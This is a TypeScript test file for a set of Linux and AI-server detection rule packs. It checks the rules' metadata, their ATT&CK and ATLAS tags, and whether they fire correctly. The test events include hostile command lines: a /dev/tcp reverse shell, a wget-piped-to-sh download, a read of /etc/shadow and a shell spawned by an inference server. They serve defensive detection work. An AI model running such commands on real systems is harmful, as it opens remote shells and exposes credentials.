import { assert, assertEquals } from "@std/assert";
import { judgeExamples } from "../cli/rulebook/examples.ts";
import { evaluate } from "../common/sigma/_evaluate_test_support.ts";
import { ALERT_LOG_SOURCE, alertField } from "../common/sigma/alert_fields.ts";
import { unheardMembers } from "../common/sigma/correlation/mod.ts";
import { testsOf } from "../common/sigma/expression.ts";
import {
  compileRules,
  type ExampleEvent,
  parseRules,
  readRuleSources,
  type Rule,
} from "../common/sigma/mod.ts";
import { parseTechniques, tacticOf, techniqueOf } from "../common/techniques/mod.ts";
import { encodeFlat, Engine } from "../wasm/engine/mod.ts";
import { ORDINARY } from "./_ordinary_test_support.ts";

const ROOT = new URL(".", import.meta.url).pathname;
const PACKS = ["ai", "correlations", "costly", "linux"];
const SOURCES = (await Promise.all(PACKS.map((pack) => readRuleSources(`${ROOT}${pack}`)))).flat();
/** Trees in which people and services work all the time. */
const BROAD = /^\/(home|usr|var|etc|opt|srv|root|tmp)?$|^\/(usr|var)\/[a-z]+$|^\/home\//;
const TECHNIQUES = parseTechniques(await Deno.readTextFile(`${ROOT}techniques.json`));
const SET = compileRules(SOURCES);
const RULES: readonly Rule[] = parseRules(SOURCES).rules.map(({ rule }) => rule);
const ENGINE = await Engine.create();
ENGINE.publish(SET.image);

function flat(event: ExampleEvent): ReadonlyMap<string, string> {
  return new Map(
    Object.entries(event).flatMap(([key, value]) => value === null ? [] : [[key, value]]),
  );
}

function packOf(path: string): string {
  return path.slice(ROOT.length).split("/")[0] ?? "";
}

function fire(event: ExampleEvent): readonly number[] {
  const values = SET.fields.map((field) => event[field] ?? undefined);
  return ENGINE.scan(encodeFlat(values, ENGINE.batch)).map(({ rule }) => rule);
}

function firing(event: ExampleEvent): readonly string[] {
  return fire(event).flatMap((index) => SET.rules[index]?.path ?? []).map((path) =>
    path.slice(ROOT.length).replace(".yml", "")
  );
}

Deno.test("the packs load without a rejection", () => {
  assertEquals(SET.rejected, []);
  assertEquals(SET.rules.map(({ id }) => id), RULES.map(({ id }) => id));
  const count = (pack: string) => SET.rules.filter(({ path }) => packOf(path) === pack).length;
  assert(count("linux") >= 60, `linux has ${count("linux")}`);
  assert(count("ai") >= 20, `ai has ${count("ai")}`);
});

Deno.test("every rule of the packs says what it is and brings its events", () => {
  for (const rule of SET.rules) {
    const say = (what: string) => `${rule.path}: ${what}`;
    assert(/^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/.test(rule.id), say("id"));
    assert(!rule.idDerived, say("id is its own"));
    assert(rule.description.length > 20, say("description"));
    assert(rule.falsepositives.length > 0, say("falsepositives"));
    assert(rule.examples.must.length >= 2, say("must"));
    assert(rule.examples.mustNot.length >= 2, say("must_not"));
    const isOfAlerts = rule.logSource.service === ALERT_LOG_SOURCE.service;
    const unfed = rule.unfed.filter((field) => !isOfAlerts || alertField(field) === undefined);
    assertEquals(unfed, [], say("fields that no record carries"));
  }
  for (const key of ["title", "description"] as const) {
    const texts = [...SET.rules, ...SET.correlations].map((rule) => rule[key].trim());
    assertEquals(texts.filter((text, at) => texts.indexOf(text) !== at), [], `same ${key}`);
  }
});

Deno.test("every correlation says what it is and fires on its sequences and on no other", async () => {
  assert(SET.correlations.length >= 5);
  for (const rule of SET.correlations) {
    const say = (what: string) => `${rule.path}: ${what}`;
    assert(!rule.idDerived && rule.description.length > 20, say("id and description"));
    assert(rule.falsepositives.length > 0, say("falsepositives"));
    const { must, mustNot } = rule.sequences;
    assert(must.length >= 2 && mustNot.length >= 2, say("sequences"));
  }
  const verdicts = await judgeExamples(SET);
  assertEquals(verdicts.length, SET.rules.length + SET.correlations.length);
  assertEquals(verdicts.filter(({ failures }) => failures.length > 0), []);
});

Deno.test("rules are informational when they are parts of a correlation, and only then", () => {
  const parts = new Set(
    SET.correlations.filter(({ generate }) => !generate).flatMap(({ members }) =>
      members.filter(({ kind }) => kind === "rule").map(({ index }) => index)
    ),
  );
  SET.rules.forEach(({ level, path }, index) =>
    assertEquals(level === "informational", parts.has(index), path)
  );
});

Deno.test("no correlation of the packs waits for what raises no alerts", () => {
  assertEquals(unheardMembers(SET.correlations), []);
  const fleet = SET.correlations.filter(({ scope }) => scope === "fleet");
  assert(fleet.length >= 5, `${fleet.length} over hosts`);
});

Deno.test("every tag of the packs is a tactic or technique in its present numbering", () => {
  for (const { path, tags } of [...SET.rules, ...SET.correlations]) {
    const frameworks = { tactics: new Set<string>(), techniques: new Set<string>() };
    for (const tag of tags) {
      const say = `${path}: ${tag}`;
      const technique = techniqueOf(tag, TECHNIQUES);
      const tactic = tacticOf(tag, TECHNIQUES);
      assert(technique !== undefined || tactic !== undefined, `${say} is neither`);
      if (technique !== undefined) {
        assertEquals(`${technique.framework}.${technique.id}`.toLowerCase(), tag, say);
        assert(technique.name !== "", `${say} has no name in techniques.json`);
        frameworks.techniques.add(technique.framework);
      }
      if (tactic !== undefined) {
        assertEquals(`${tactic.framework}.${tactic.tactic}`, tag, say);
        frameworks.tactics.add(tactic.framework);
      }
    }
    assert(frameworks.techniques.has("attack"), `${path}: a technique of ATT&CK`);
    assert(frameworks.tactics.has("attack"), `${path}: a tactic of ATT&CK`);
    assertEquals(new Set(tags).size, tags.length, `${path}: a tag twice`);
  }
});

Deno.test("the Linux pack has rules for every tactic that a host can show", () => {
  const linux = SET.rules.filter(({ path }) => packOf(path) === "linux");
  for (const tactic of TECHNIQUES.attack.tactics) {
    const count = linux.filter(({ tags }) => tags.includes(`attack.${tactic}`)).length;
    assert(count >= 2, `${tactic}: ${count}`);
  }
});

Deno.test("every rule of the AI pack that names ATLAS brings a technique of it", () => {
  const ai = SET.rules.filter(({ path }) => packOf(path) === "ai");
  const atlas = ai.filter(({ tags }) => tags.some((tag) => tag.startsWith("atlas.aml.t")));
  assert(atlas.length >= 18, `${atlas.length}`);
});

Deno.test("every rule of the pack fires on its events and on no other, reference and engine", () => {
  RULES.forEach((rule, index) => {
    // The reference knows patterns alone.
    const inPatterns = [...testsOf(rule.expression)].every(({ criterion: { type } }) =>
      type === "pattern" || type === "absent"
    );
    const check = (event: ExampleEvent, wanted: boolean) => {
      const say = `${rule.title}: ${JSON.stringify(event)}`;
      if (inPatterns) assertEquals(evaluate(rule.expression, flat(event)), wanted, say);
      assertEquals(fire(event).includes(index), wanted, `engine, ${say}`);
    };
    for (const event of rule.examples.must) check(event, true);
    for (const event of rule.examples.mustNot) check(event, false);
  });
});

// Events that stand in no rule file.
const CASES: readonly { readonly rule: string; readonly event: ExampleEvent }[] = [
  {
    rule: "linux/reverse_shell_dev_tcp",
    event: { Image: "/bin/bash", CommandLine: "bash\0-c\0exec 3<>/dev/tcp/198.51.100.2/80" },
  },
  {
    rule: "linux/download_piped_to_shell",
    event: { Image: "/bin/bash", CommandLine: "bash -c wget -O - https://198.51.100.2/i.sh | sh" },
  },
  {
    rule: "linux/exec_world_writable_directory",
    event: { Image: "/usr/bin/dash", ExecFile: "/var/tmp/a/b.sh", CommandLine: "/bin/sh b.sh" },
  },
  {
    rule: "linux/shadow_file_read",
    event: { Image: "/usr/bin/head", CommandLine: "head", TargetFilename: "/etc/shadow" },
  },
  {
    rule: "linux/connect_backdoor_port",
    event: { Image: "/usr/bin/python3", DestinationPort: "1337", Protocol: "tcp" },
  },
  {
    rule: "linux/exec_root_from_user",
    event: { Image: "/usr/local/bin/helper", UserId: "0", ParentUserId: "65534" },
  },
  {
    rule: "ai/inference_server_shell",
    event: {
      Image: "/usr/bin/bash",
      CommandLine: "bash -c whoami",
      ParentImage: "/opt/llama.cpp/llama-server",
    },
  },
];

for (const { rule, event } of CASES) {
  Deno.test(`${rule} fires on an event that is not its own`, () => {
    assert(firing(event).includes(rule), `fired: ${firing(event).join(", ")}`);
  });
}

Deno.test("the packs are silent on ordinary work", () => {
  assert(ORDINARY.length >= 120);
  const loud = ORDINARY.flatMap((event) => {
    const rules = firing(event).filter((rule) => /^(ai|linux)\//.test(rule));
    return rules.length === 0 ? [] : [`${rules.join(", ")}: ${JSON.stringify(event)}`];
  });
  assertEquals(loud, []);
});

Deno.test("packs that are on by default force no wide stream, those in rules/costly do", () => {
  const { interest } = SET;
  const wide = interest.wide.map(({ rule }) => packOf(SET.rules[rule]?.path ?? ""));
  assertEquals(new Set(wide), new Set(["costly"]));
  const costly = SET.rules.filter(({ path }) => packOf(path) === "costly");
  assertEquals(wide.length, costly.length, "a rule in rules/costly that needs no wide stream");
});

Deno.test("the packs watch paths and ask for no change of identity", () => {
  const { interest } = SET;
  assertEquals(interest.identity, false);
  assertEquals(interest.kinds, [
    "exec",
    "fork",
    "exit",
    "signal",
    "access",
    "connect",
    "bind",
    "open",
    "accept",
    "flow",
    "dns",
    "change",
    "act",
  ]);
  assertEquals(interest.publicPeers, true, "a rule wants connections in private networks");
  assertEquals(interest.watchesDropped, 0);
  const watched = new Set(interest.watches.map(({ type, path }) => `${type} ${path}`));
  for (const wanted of ["file /etc/shadow", "file /root/.ssh/id_ed25519", "tree /etc/cron.d"]) {
    assert(watched.has(wanted), wanted);
  }
  // A tree that people work in would be seen with every open of theirs.
  const broad = interest.watches.filter(({ type, path }) => type === "tree" && BROAD.test(path));
  assertEquals(broad.map(({ path }) => path), []);
});
